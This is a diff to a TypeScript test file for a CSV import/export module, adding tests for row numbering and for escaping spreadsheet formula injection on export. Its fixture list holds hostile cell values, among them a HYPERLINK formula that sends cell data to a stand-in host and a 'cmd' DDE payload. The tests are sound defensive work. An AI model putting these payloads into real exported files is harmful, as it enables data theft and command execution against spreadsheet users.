@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { FIELDS, HEADERS, decode, guessMapping, parse, toRow, unparse } from './csv';
+import { FIELDS, HEADERS, decode, guessMapping, parse, toRow, unescapeFormula, unparse } from './csv';
 
 const utf8 = (s: string) => new TextEncoder().encode(s);
 /** The decoded text; fails the test when the bytes were refused. */
@@ -51,5 +51,43 @@ describe('CSV import parsing', () => {
     expect(back.rows).toEqual(rows);
     const mapping = guessMapping(back.header);
     expect(FIELDS.every((f) => mapping[f] === FIELDS.indexOf(f))).toBe(true);
+  });
+  it('numbers rows as a spreadsheet does, blank lines included (the header is row 1)', () => {
+    const p = parse('name,company,email\n\nAda,Acme,a@acme.io\n,,\n\nBob,Beta,"b@\nbeta.io"\nCyd,Corp,c@corp.io\n');
+    expect(p.rows.map((r) => r[0])).toEqual(['Ada', 'Bob', 'Cyd']);
+    expect(p.rowNumbers).toEqual([3, 6, 7]);
+    const leading = parse('\n\nname,company\nAda,Acme\n');
+    expect(leading.header).toEqual(['name', 'company']);
+    expect(leading.rowNumbers).toEqual([4]);
+  });
+});
+
+describe('CSV export against formula injection', () => {
+  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', '+cmd|/C calc!A0', '-2+3', '@SUM(A1)', '\tTab', "'=already quoted", "''=twice", "O'Brien", 'plain'];
+
+  it('writes a cell a spreadsheet would run with a leading apostrophe, and nothing else changes', () => {
+    const text = unparse(['full_name'], hostile.map((h) => [h]), false);
+    const cells = parse(text).rows.map((r) => r[0]);
+    expect(cells).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Click me")`,
+      "'+cmd|/C calc!A0",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\tTab",
+      "''=already quoted",
+      "'''=twice",
+      "O'Brien",
+      'plain',
+    ]);
+    expect(cells.every((c) => !/^[=+\-@\t\r]/.test(c))).toBe(true);
+  });
+
+  it('import takes the escaping off, so export then import gives every value back', () => {
+    const text = unparse(['full_name'], hostile.map((h) => [h]), false);
+    const p = parse(text);
+    const mapping = guessMapping(p.header);
+    expect(p.rows.map((r) => toRow(r, mapping).fullName)).toEqual(hostile.map((h) => h.trim()));
+    expect(unescapeFormula("O'Brien")).toBe("O'Brien");
+    expect(unescapeFormula('=not ours')).toBe('=not ours');
   });
 });
